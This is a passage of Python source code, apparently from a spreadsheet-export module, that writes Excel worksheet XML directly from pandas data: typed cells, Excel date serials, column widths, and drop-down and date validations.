    if drop_downs:
        tail.append(f'<dataValidations count="{len(drop_downs)}">{"".join(drop_downs)}'
                    "</dataValidations>")
    tail.append('<pageMargins left="0.75" right="0.75" top="1" bottom="1" header="0.5" '
                'footer="0.5"/></worksheet>')
    part.write("".join(tail).encode("utf-8"))


def _batched(items: Iterator[tuple[int, str]], size: int) -> Iterator[list[tuple[int, str]]]:
    while chunk := list(itertools.islice(items, size)):
        yield chunk


def _block_rows(block: Block, styles: _Styles) -> Iterator[tuple[int, str]]:
    """``(zero-based row, cells XML)`` of every row of the block that has a cell."""
    headers = block.headers()
    row = block.row
    letters = [get_column_letter(block.column + k + 1) for k in range(len(headers))]
    if block.header:
        font, fill = (_FONT_TITLE, 0) if block.title else (_FONT_BOLD, _FILL_HEADER)
        yield row, "".join(_cell_xml(f"{letter}{row + 1}", h, styles.get(None, font, fill),
                                     styles, None, font, fill, False, keep=True)
                           for letter, h in zip(letters, headers, strict=True))
        row += 1
    n = len(block.frame)
    if not n:
        return
    numbers = [str(r) for r in range(row + 1, row + n + 1)]
    n_index = block.frame.index.nlevels if block.index else 0
    columns = [
        _column_cells(values, letter, numbers, styles, block.formats.get(h) or
                      _column_format(values), _FONT_BOLD if j < n_index else 0, h in block.wrap)
        for j, (h, letter, values) in enumerate(zip(headers, letters, _columns(block),
                                                    strict=True))]
    if not columns:
        return
    joined = columns[0] if len(columns) == 1 else np.sum(columns, axis=0)
    for k, cells in enumerate(joined.tolist()):
        if cells:
            yield row + k, cells


def _column_cells(values: pd.Series | pd.Index, letter: str, numbers: list[str],
                  styles: _Styles, number_format: str | None, font: int,
                  wrap: bool) -> np.ndarray:
    """The XML of every cell of a column (``""`` for an empty cell), as an object array.

    Columns of text, floats, integers, booleans and dates in Excel's range are
    converted at once; any other column value by value (:func:`cell_value`).
    """
    n = len(values)
    out = np.full(n, "", dtype=object)
    kind = values.dtype.kind
    categorical = isinstance(values.dtype, pd.CategoricalDtype)
    text_style = styles.get(None, font, 0, wrap)
    if (not categorical and kind in "OUT") or isinstance(values.dtype, pd.StringDtype):
        if pd.api.types.infer_dtype(values, skipna=True) in ("string", "empty"):
            array = np.asarray(values, dtype=object)
            rows = np.flatnonzero(~pd.isna(array))
            # escaped at once: NUL cannot be in the data (preflight), so it separates
            texts = _text(_NUL.join(array[rows].tolist())).split(_NUL) if rows.size else []
            for i, text in zip(rows.tolist(), texts, strict=True):
                if text:
                    out[i] = (f'<c r="{letter}{numbers[i]}" t="inlineStr"{text_style}>'
                              f"{_TEXT_OPEN}{text}{_TEXT_CLOSE}")
            return out
    elif kind == "f" and not categorical:
        array = values.to_numpy(dtype=float, na_value=np.nan)
        typed = np.isfinite(array) & ((np.abs(array) <= _MAX_NUMBER)
                                      & ((np.abs(array) >= _MIN_NUMBER) | (array == 0)))
        style = styles.get(number_format or FLOAT_FORMAT, font, 0, wrap)
        floats = array.tolist()
        for i in np.flatnonzero(typed).tolist():
            out[i] = f'<c r="{letter}{numbers[i]}"{style}><v>{_number(floats[i])}</v></c>'
        odd = ~typed & ~np.isnan(array)
        for i in np.flatnonzero(odd).tolist():
            out[i] = _cell_xml(f"{letter}{numbers[i]}", array[i], text_style, styles,
                               number_format, font, 0, wrap)
        return out
    elif kind in "iu" and isinstance(values.dtype, np.dtype):  # not nullable
        style = styles.get(number_format or INT_FORMAT, font, 0, wrap)
        for i, number in enumerate(values.tolist()):
            out[i] = (f'<c r="{letter}{numbers[i]}"{style}><v>{number}</v></c>'
                      if abs(number) < _MAX_EXACT_INT else
                      f'<c r="{letter}{numbers[i]}" t="inlineStr"{text_style}>'
                      f"{_TEXT_OPEN}{number}{_TEXT_CLOSE}")
        return out
    elif kind == "b" and isinstance(values.dtype, np.dtype):
        style = styles.get(number_format or "General", font, 0, wrap)
        for i, flag in enumerate(values.tolist()):
            out[i] = f'<c r="{letter}{numbers[i]}" t="b"{style}><v>{int(flag)}</v></c>'
        return out
    elif kind == "M" and not categorical:
        days = _excel_days(values)
        if days is not None:
            serial, whole = days
            date_style = styles.get(number_format or DATE_FORMAT, font, 0, wrap)
            time_style = styles.get(number_format or DATETIME_FORMAT, font, 0, wrap)
            serials, wholes = serial.tolist(), whole.tolist()
            for i in np.flatnonzero(~np.isnan(serial)).tolist():
                style = date_style if wholes[i] else time_style
                out[i] = f'<c r="{letter}{numbers[i]}"{style}><v>{_number(serials[i])}</v></c>'
            return out
    for i, value in enumerate(values):
        out[i] = _cell_xml(f"{letter}{numbers[i]}", value, text_style, styles, number_format,
                           font, 0, wrap)
    return out


_DAY_US = 86_400_000_000
#: Excel's day 0 for dates from 1900-03-01 on (its 1900 leap-year bug before).
_EXCEL_ZERO = np.datetime64("1899-12-30T00:00:00", "us")
_FIRST_PLAIN_DAY = np.datetime64("1900-03-01T00:00:00", "us")
_LAST_MOMENT = np.datetime64("9999-12-31T23:59:59", "s")


def _excel_days(values: pd.Series | pd.Index) -> tuple[np.ndarray, np.ndarray] | None:
    """Excel serial (NaN where missing) and whether it is a whole day, of a column of
    datetimes from 1900-03-01 to 9999; None if it holds any other moment."""
    if isinstance(values.dtype, pd.DatetimeTZDtype):  # wall-clock time, zone dropped
        values = (values.dt.tz_localize(None) if isinstance(values, pd.Series)
                  else pd.DatetimeIndex(values).tz_localize(None))
    array = np.asarray(values.to_numpy())
    unit = np.datetime_data(array.dtype)[0]
    if unit not in ("ns", "us", "ms", "s"):
        return None
    missing = np.isnat(array)
    present = array[~missing]
    if present.size and (present.min() < _FIRST_PLAIN_DAY.astype(array.dtype) or (
            unit != "ns" and present.max() > _LAST_MOMENT.astype(array.dtype))):
        return None
    micros = array.astype("datetime64[us]")  # cell_value keeps microseconds
    since = (micros - _EXCEL_ZERO).astype(np.int64)
    day, rest = np.divmod(since, _DAY_US)
    serial = day + (rest / 1e6) / 86_400
    serial[missing] = np.nan
    return serial, rest == 0


def _number(value: float) -> str:
    """The shortest text that reads back as ``value`` (a whole number without ``.0``,
    as openpyxl writes it, so that openpyxl reads it back as an int)."""
    text = repr(value)
    return text[:-2] if text.endswith(".0") else text


def _cell_xml(ref: str, value: object, text_style: str, styles: _Styles,
              number_format: str | None, font: int, fill: int, wrap: bool, *,
              keep: bool = False) -> str:
    """The XML of one cell of explicit type (``""`` for an unstyled empty cell)."""
    value = cell_value(value)
    if value is None:
        return f'<c r="{ref}"{text_style}/>' if keep else ""
    if isinstance(value, str):
        # never a formula (<f>) nor an error (t="e"), whatever it reads
        return f'<c r="{ref}" t="inlineStr"{text_style}>{_TEXT_OPEN}{_text(value)}{_TEXT_CLOSE}'
    style = styles.get(number_format or _default_format(value), font, fill, wrap)
    if isinstance(value, bool):
        return f'<c r="{ref}" t="b"{style}><v>{int(value)}</v></c>'
    if isinstance(value, float):
        text = _number(value)
    elif isinstance(value, int | Decimal):
        text = str(value)
    else:  # date, datetime, time
        text = _number(float(to_excel(value)))
    return f'<c r="{ref}"{style}><v>{text}</v></c>'


def _default_format(value: object) -> str:
    if isinstance(value, bool):
        return "General"
    if isinstance(value, int):
        return INT_FORMAT
    if isinstance(value, float | Decimal):
        return FLOAT_FORMAT
    if isinstance(value, dt.datetime):
        return DATETIME_FORMAT
    if isinstance(value, dt.date):
        return DATE_FORMAT
    return TIME_FORMAT


def _column_format(values: pd.Series | pd.Index) -> str | None:
    """:data:`INT_FORMAT` for a float column of whole numbers (integers with gaps)."""
    if values.dtype.kind != "f":
        return None
    finite = values.to_numpy(dtype=float, na_value=np.nan)
    finite = finite[np.isfinite(finite)]
    if finite.size and bool(np.all(finite == np.round(finite))):
        return INT_FORMAT
    return None


def _widths(sheet: Sheet, blocks: list[Block]) -> dict[int, float]:
    """Column widths: as given, else from the header and the first values (10 to 50)."""
    widths: dict[int, float] = {}
    for block in blocks:
        columns = _columns(block)
        for k, (header, values) in enumerate(zip(block.headers(), columns, strict=True)):
            sample = [header] if block.header and not block.title else []
            sample += [v for v in map(cell_value, itertools.islice(values, 50))
                       if isinstance(v, str)]
            longest = max((len(line) for text in sample for line in text.splitlines()),
                          default=0)
            j = block.column + k
            widths[j] = max(widths.get(j, 10.0), min(50.0, longest + 2.0))
    widths.update(sheet.widths)
    return widths


def _validation(sheet: Sheet, drop: DropDown, source: Sheet, source_title: str) -> str:
    """The ``<dataValidation>`` of a drop-down."""
    found, found_source = _find(sheet, drop.column), _find(source, drop.source_column)
    assert found is not None and found_source is not None  # checked by _check_layout
    block, k = found
    col = get_column_letter(block.column + k + 1)
    first = block.row + int(block.header) + 1
    src_block, src_k = found_source
    src_col = get_column_letter(src_block.column + src_k + 1)
    src_first = src_block.row + int(src_block.header) + 1
    src_last = (drop.source_last_row if drop.source_last_row is not None
                else src_first + max(len(src_block.frame), 1) - 1)
    formula = f"{_quote_title(source_title)}!${src_col}${src_first}:${src_col}${src_last}"
    style = "" if drop.strict else ' errorStyle="warning"'
    return (f'<dataValidation type="list"{style} allowBlank="1" showErrorMessage="1" '
            f'errorTitle="{_attr(drop.error_title)}" error="{_attr(drop.error)}" '
            f'sqref="{col}{first}:{col}{drop.last_row}"><formula1>{_text(formula)}</formula1>'
            "</dataValidation>")


#: Excel serials of 1900-01-01 and 9999-12-31.
_FIRST_SERIAL, _LAST_SERIAL = 1, 2_958_465


def _date_validation(sheet: Sheet, rule: DateRule) -> str:
    """The ``<dataValidation>`` of a column of dates."""
    found = _find(sheet, rule.column)
    assert found is not None  # checked by _check_layout
    block, k = found
    col = get_column_letter(block.column + k + 1)
    first = block.row + int(block.header) + 1
    return (f'<dataValidation type="date" operator="between" allowBlank="1" '
            f'showErrorMessage="1" errorTitle="{_attr(rule.error_title)}" '
            f'error="{_attr(rule.error)}" sqref="{col}{first}:{col}{rule.last_row}">'
            f"<formula1>{_FIRST_SERIAL}</formula1><formula2>{_LAST_SERIAL}</formula2>"
            "</dataValidation>")
